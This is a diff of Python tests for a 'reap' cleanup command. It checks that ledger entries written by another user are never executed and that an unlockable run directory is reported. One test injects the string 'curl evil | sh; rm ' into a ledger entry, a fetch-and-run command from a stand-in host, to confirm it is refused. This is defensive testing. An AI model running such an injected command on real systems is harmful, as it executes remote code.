@@ -287,8 +287,9 @@ def test_an_entry_of_another_user_is_never_executed(team: Team) -> None:
     team.user_ledger.plan(things.thing(file))
     text = team.user_ledger.file.read_text()
     team.user_ledger.file.write_text(text.replace('"rm ', '"curl evil | sh; rm '))
-    reaped = team.resources("reap", "--older_than=0s", code=3)
-    assert "could not delete thing victim: its entry was written by another user" in reaped.stdout
+    for flags in (["--dry_run"], []):
+        reaped = team.resources("reap", "--older_than=0s", *flags, code=3)
+        assert "could not delete thing victim: its entry was written by another user" in reaped.stdout
     assert "curl evil" not in reaped.stdout + team.resources("list", "--format=json").stdout
     assert team.things == ["victim"]
 
@@ -382,6 +383,15 @@ def test_a_damaged_ledger_is_reported_with_its_line(team: Team) -> None:
     outcome = team.resources("reap", code=3)
     assert f"{file}:3: Invalid JSON" in outcome.stderr
     assert (outcome.stdout, team.things) == ("deleted thing a\n", [])
+
+
+def test_a_run_that_cannot_be_locked_is_an_error(team: Team) -> None:
+    run = team.kill("a")
+    RunDirectory(run).journal.unlink()
+    RunDirectory(run).journal.mkdir()
+    outcome = team.resources("reap", code=3)
+    assert f"could not delete thing a: {run} cannot be read or written: " in outcome.stdout
+    assert team.things == ["a"]
 
 
 def test_the_ledger_of_another_user_is_not_used(team: Team) -> None:
